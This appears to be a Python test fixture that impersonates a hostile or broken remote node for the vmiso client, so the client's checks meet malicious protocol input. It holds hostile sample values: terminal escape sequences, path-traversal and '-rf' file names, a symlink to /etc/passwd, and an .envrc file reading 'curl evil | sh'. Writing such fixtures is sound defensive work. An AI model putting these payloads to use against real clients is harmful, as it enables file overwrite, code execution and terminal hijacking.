"""A hostile (or broken) node: speaks vmiso's node protocol on stdin/stdout as a scenario says.

Started in place of ssh by tests/test_node.py (a fake ``ssh`` first on PATH runs it), so the client's
real code reads it through real pipes.  VMISO_FAKE_NODE names the scenario.
"""

from __future__ import annotations

import hashlib
import json
import os
import struct
import sys

from vmiso.node import protocol
from vmiso.node.protocol import Reader, Writer

ESC = "\x1b]0;owned\x07\x1b[2J"


def record(code: int = 0, **extra: object) -> dict:
    return {"exit_code": code, "signal": None, "run_id": "abc123", "boot": "cold", "accel": "tcg",
            "inputs": [], "hints": [], "outputs": {"files": [], "refused": []}, **extra}


def entry(w: Writer, path: str, data: bytes | None, kind: str = "file", size: int | None = None) -> None:
    if data is None and kind == "file":
        kind = "dir"
    head: dict = {"kind": kind, "path": path}
    if kind != "dir":
        head["size"] = len(data or b"") if size is None else size
    w.send_json(protocol.ENTRY, head)
    if kind != "dir":
        w.send_data(protocol.DATA, data or b"")
        w.send(protocol.ENTRY_END)


def outputs(w: Writer, files: list[tuple[str, bytes | None]], manifest: str | None = None) -> None:
    if manifest is None:
        manifest = "".join(f"{hashlib.sha256(d).hexdigest()}  {p}\n" for p, d in files if d is not None)
    w.send_json(protocol.RESULT, {"record": record(), "error": None, "outputs": True})
    w.send_data(protocol.MANIFEST, manifest.encode())
    w.send(protocol.MANIFEST)
    for path, data in files:
        entry(w, path, data)
    w.send(protocol.TREE_END)


def main() -> int:
    scenario = os.environ["VMISO_FAKE_NODE"]
    r, w = Reader(0, "the client"), Writer(1, "the client")
    r.expect(protocol.HELLO)
    if scenario == "old-protocol":
        w.send_json(protocol.HELLO, {"protocol": 99, "vmiso": "9.9"})
        return 0
    if scenario == "silent":
        sys.stderr.write("bash: line 1: vmiso: command not found\n")
        return 127
    w.send_json(protocol.HELLO, protocol.hello())
    _, request = r.expect(protocol.REQUEST)
    if scenario.startswith("command"):  # vmiso --host NODE gc, pool ..., images show ...: what it asked, said back
        argv = json.loads(request)["argv"]
        w.send(protocol.STDOUT, f"asked for {' '.join(argv)}\n{ESC}cleared\n".encode())
        w.send(protocol.STDERR, b"vmiso: error: half a line, then \xe2")
        w.send(protocol.STDERR, b"\x82\xac the rest\n")
        w.send_json(protocol.RESULT, {"exit_code": 999 if scenario == "command-bad-exit" else 3})
        return 0
    if scenario.startswith("doctor"):
        checks = [{"name": "qemu-img", "ok": True, "detail": "/usr/bin/qemu-img", "fix": "", "warning": False},
                  {"name": f"evil{ESC}", "ok": False, "detail": f"red{ESC}", "fix": f"sudo{ESC}",
                   "warning": False}]
        if scenario == "doctor-lying":
            checks[0]["ok"] = "yes"
        if scenario == "doctor-flood":
            checks = checks[:1] * 201  # within a frame: more than any doctor makes
        w.send_json(protocol.RESULT, {"doctor": checks})
        return 0
    if scenario.startswith("images"):
        digest = "a" * 64 if scenario == "images" else "not a digest"
        w.send_json(protocol.RESULT, {"images": [
            {"name": "it", "size": 2**30, "created": "2026-01-01T00:00:00", "sha256": digest},
            {"name": f"evil{ESC}", "size": 1, "created": None, "sha256": None}]})
        return 0
    while r.expect(protocol.ENTRY, protocol.DATA, protocol.ENTRY_END, protocol.TREE_END)[0] != protocol.TREE_END:
        pass
    w.send_json(protocol.STEP, {"event": "start", "step": "exec", "detail": "job"})
    w.send(protocol.STDOUT, b"job output\n")
    good = b"fine\n"
    if scenario == "honest":
        outputs(w, [("result.txt", good), ("sub", None), ("sub/more.txt", b"more")])
    elif scenario == "tool-file":  # what the node's collector should have refused: the client refuses it too
        outputs(w, [("result.txt", good), (".envrc", b"curl evil | sh\n")])
    elif scenario == "symlink":
        w.send_json(protocol.RESULT, {"record": record(), "error": None, "outputs": True})
        w.send(protocol.MANIFEST)
        w.send_json(protocol.ENTRY, {"kind": "symlink", "path": "link", "target": "/etc/passwd"})
    elif scenario == "dotdot":
        outputs(w, [("../escaped.txt", good)])
    elif scenario == "absolute":
        outputs(w, [("/tmp/escaped.txt", good)])
    elif scenario == "dash":
        outputs(w, [("-rf", good)])
    elif scenario == "control-name":
        outputs(w, [(f"evil{ESC}.txt", good)])
    elif scenario == "unlisted":
        outputs(w, [("result.txt", good), ("extra.txt", b"x")],
                manifest=f"{hashlib.sha256(good).hexdigest()}  result.txt\n")
    elif scenario == "wrong-hash":
        outputs(w, [("result.txt", good)], manifest=f"{'0' * 64}  result.txt\n")
    elif scenario == "missing":
        outputs(w, [], manifest=f"{hashlib.sha256(good).hexdigest()}  result.txt\n")
    elif scenario == "oversized-frame":
        os.write(1, struct.pack(">BI", protocol.STDOUT, protocol.MAX_FRAME + 1) + b"x" * 1024)
    elif scenario == "oversized-stream":  # more than the client's run.output_max_bytes, in honest frames
        big = b"\0" * (3 * 1024 * 1024)
        outputs(w, [("big.bin", big)])
    elif scenario == "lying-size":
        w.send_json(protocol.RESULT, {"record": record(), "error": None, "outputs": True})
        w.send_data(protocol.MANIFEST, f"{hashlib.sha256(good).hexdigest()}  result.txt\n".encode())
        w.send(protocol.MANIFEST)
        entry(w, "result.txt", good * 10, size=len(good))
    elif scenario == "escapes":
        w.send(protocol.STDERR, f"{ESC}job says hi\n".encode())
        sys.stderr.write(f"node log {ESC}\n")
        sys.stderr.flush()
        w.send_json(protocol.RESULT, {"record": record(125), "outputs": False,
                                      "error": {"message": f"bad {ESC} thing", "hint": f"do {ESC}", "exit_code": 125}})
    elif scenario == "bad-exit":
        w.send_json(protocol.RESULT, {"record": record(300), "error": None, "outputs": False})
    elif scenario == "exit-3":
        w.send_json(protocol.RESULT, {"record": record(3, hints=[f"a hint {ESC}"]), "error": None, "outputs": False})
    elif scenario == "signal":  # the job ends on the first signal the client passes on
        while True:
            kind, payload = r.expect(protocol.STDIN, protocol.STDIN_END, protocol.SIGNAL)
            if kind == protocol.SIGNAL:
                break
        name = protocol.header(payload, "the client", "signal")["signal"]
        w.send(protocol.STDOUT, f"got {name}\n".encode())
        w.send_json(protocol.STEP, {"event": "done", "step": "exec", "detail": ""})
        w.send_json(protocol.RESULT, {"record": record(143, signal="SIGTERM"), "error": None, "outputs": False})
    elif scenario == "stall-outputs":  # a result, then outputs begun and never finished
        w.send_json(protocol.RESULT, {"record": record(), "error": None, "outputs": True})
        w.send_data(protocol.MANIFEST, f"{hashlib.sha256(good).hexdigest()}  result.txt\n".encode())
        w.send(protocol.MANIFEST)
        w.send_json(protocol.ENTRY, {"kind": "file", "path": "result.txt", "size": len(good)})
        import time
        time.sleep(600)
    elif scenario == "stdin-credit":  # a job that reads its stdin slowly: the client must keep to its credit
        import select
        received, granted, over = 0, protocol.STDIN_WINDOW, []
        while True:
            if received == granted and not select.select([0], [], [], 0.3)[0]:
                # The window is full and the client waits, as it must: the job reads a little more.
                w.send_json(protocol.CREDIT, {"bytes": protocol.CHUNK})
                granted += protocol.CHUNK
            kind, payload = r.expect(protocol.STDIN, protocol.STDIN_END)
            if kind == protocol.STDIN_END:
                break
            received += len(payload)
            if received > granted:  # sent past its credit
                over.append(received)
                break
        w.send(protocol.STDOUT, json.dumps({"received": received, "over": over}).encode() + b"\n")
        w.send_json(protocol.RESULT, {"record": record(), "error": None, "outputs": False})
    elif scenario == "hang":  # neither a result nor the link's end
        import time
        time.sleep(600)
    elif scenario == "drop":
        return 255  # the link ends in the middle of the run
    return 0


if __name__ == "__main__":
    sys.exit(main())
